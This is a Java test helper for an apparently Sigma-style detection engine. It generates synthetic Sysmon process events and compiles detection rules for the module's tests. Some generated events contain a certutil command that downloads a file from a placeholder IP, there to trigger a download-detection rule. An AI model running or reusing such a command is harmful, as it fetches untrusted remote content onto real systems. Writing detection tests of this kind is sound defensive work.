package dev.sluice.stream;

import dev.sluice.engine.event.EventReader;
import dev.sluice.engine.event.JsonDocuments;
import dev.sluice.engine.event.JsonDocuments.Document;
import dev.sluice.engine.event.JsonDocuments.Layout;
import dev.sluice.engine.event.Origin;
import dev.sluice.engine.lineage.Lineage;
import dev.sluice.engine.lineage.LineageRun;
import dev.sluice.engine.match.AlertWriter;
import dev.sluice.engine.match.CompiledRuleSet;
import dev.sluice.engine.match.Judge;
import dev.sluice.engine.match.RuleSelection;
import dev.sluice.engine.match.ScanJudge;
import dev.sluice.engine.match.ScanMatcher;
import dev.sluice.engine.sigma.SourceFile;
import dev.sluice.stream.EventJudge.Outcome;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.time.InstantSource;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.zip.GZIPOutputStream;

/** Events and rules that the tests of this module share. */
final class Samples {
  static final RuleSettings SETTINGS =
      RuleSettings.of(RuleSelection.DEFAULT, Map.of(), EventDecoding.builtIn());

  /** Fires once for every event of {@link #process}. */
  static final String ANY_PROCESS = resource("rules/any_process.yml");

  static final String CERTUTIL = resource("rules/certutil_download.yml");

  private static final Instant START = Instant.parse("2026-11-20T09:00:00Z");

  private Samples() {}

  /**
   * The start of process {@code number} on one of seven hosts, {@code number} seconds after nine.
   */
  static String process(int number) {
    boolean download = number % 10 == 3;
    return """
    {"Hostname":"WS-%02d.example.","EventTime":"%s","SourceName":"Microsoft-Windows-Sysmon",\
    "Channel":"Microsoft-Windows-Sysmon/Operational","EventID":1,"Image":"C:\\\\Windows\\\\%s.exe",\
    "CommandLine":"%s %d"}\
    """
        .formatted(
            number % 7,
            START.plus(number, ChronoUnit.SECONDS),
            download ? "certutil" : "notepad",
            download ? "certutil -urlcache -f http://203.0.113.9/x" : "notepad",
            number);
  }

  static long timeOf(int number) {
    return START.plus(number, ChronoUnit.SECONDS).toEpochMilli();
  }

  /** {@code count} processes, one a line. */
  static String processes(int count) {
    StringBuilder lines = new StringBuilder();
    for (int i = 0; i < count; i++) {
      lines.append(process(i)).append('\n');
    }
    return lines.toString();
  }

  static RawEvent raw(String event, long ordinal) {
    return raw(event, "events.ndjson", ordinal);
  }

  static RawEvent raw(String event, String file, long ordinal) {
    EventScan scan =
        new EventScan(EventDecoding.builtIn().reader(), new EventClock(EventClock.TOLERANCE));
    Origin origin = Origin.file(file, ordinal);
    return scan.scan(event.getBytes(StandardCharsets.UTF_8), origin, EventClock.NO_TIME);
  }

  /** The rule {@code yaml} with another id, and a title that says so. */
  static String withId(String yaml, int number) {
    String id = "id: 00000000-0000-4000-8000-%012d".formatted(number);
    return yaml.replaceFirst("id: .*", id).replaceFirst("title: (.*)", "title: $1 " + number);
  }

  /** A file of the pack {@code rules}. */
  static SourceFile file(String path, String yaml) {
    return new SourceFile("rules", path, "rules/" + path, yaml.getBytes(StandardCharsets.UTF_8));
  }

  /** The set of {@code files} as the verifier would broadcast it. */
  static RuleSetUpdate update(long version, SourceFile... files) {
    RuleSources sources = sources(version, List.of(files));
    return RuleSetUpdate.of(sources, compiled(sources).set().ruleSet().hash());
  }

  static RuleSources sources(long version, List<SourceFile> files) {
    return RuleSources.ofFiles(JobOptions.RULE_SET, version, files);
  }

  /** The set of {@code files}, compiled. */
  static CompiledRuleSet compiled(long version, List<SourceFile> files) {
    return compiled(sources(version, files)).set();
  }

  static RuleSourcesCompiler.Compilation compiled(RuleSources sources) {
    return new RuleSourcesCompiler(SETTINGS).compile(sources);
  }

  /** The alertIds that the engine alone gives for {@code options}, in the order of the events. */
  static List<String> reference(JobOptions options) throws IOException {
    RuleSeed seed = RuleSeed.read(JobOptions.RULE_SET, options.rules(), options.ruleSettings());
    EventReader reader = options.decoding().reader();
    Judge oracle = new ScanJudge(reader, new ScanMatcher(seed.compilation().set().ruleSet()));
    EventJudge judge = new EventJudge(new AlertWriter(InstantSource.system()));
    EventScan scan = new EventScan(reader, new EventClock(EventClock.TOLERANCE));
    LineageRun lineage = new LineageRun(reader);
    List<String> ids = new ArrayList<>();
    for (String path : options.events()) {
      try (JsonDocuments documents = open(path, options)) {
        for (Document next = documents.next(); next != null; next = documents.next()) {
          Origin origin = Origin.file(path, next.ordinal());
          RawEvent raw = scan.scan(next.bytes(), origin, EventClock.NO_TIME);
          Lineage own = lineage.of(raw.bytes(), origin);
          if (judge.judge(raw, oracle, Map.of(), own) instanceof Outcome.Judged judged) {
            judged.alerts().forEach(alert -> ids.add(alert.alertId()));
          }
        }
      }
    }
    return ids;
  }

  static byte[] gzip(String text) throws IOException {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (GZIPOutputStream out = new GZIPOutputStream(bytes)) {
      out.write(text.getBytes(StandardCharsets.UTF_8));
    }
    return bytes.toByteArray();
  }

  /** Writes {@code text} to {@code path}, making its directories, and returns the path as text. */
  static String write(Path path, String text) throws IOException {
    Path directory = path.getParent();
    if (directory != null) {
      Files.createDirectories(directory);
    }
    return Files.writeString(path, text).toString();
  }

  private static JsonDocuments open(String path, JobOptions options) throws IOException {
    return JsonDocuments.open(
        Files.newInputStream(Path.of(path)), Layout.ofFile(path), options.decoding().limits());
  }

  private static String resource(String name) {
    try (InputStream in = Samples.class.getResourceAsStream("/" + name)) {
      if (in == null) {
        throw new IllegalStateException("no test resource " + name);
      }
      return new String(in.readAllBytes(), StandardCharsets.UTF_8);
    } catch (IOException e) {
      throw new IllegalStateException(e);
    }
  }
}
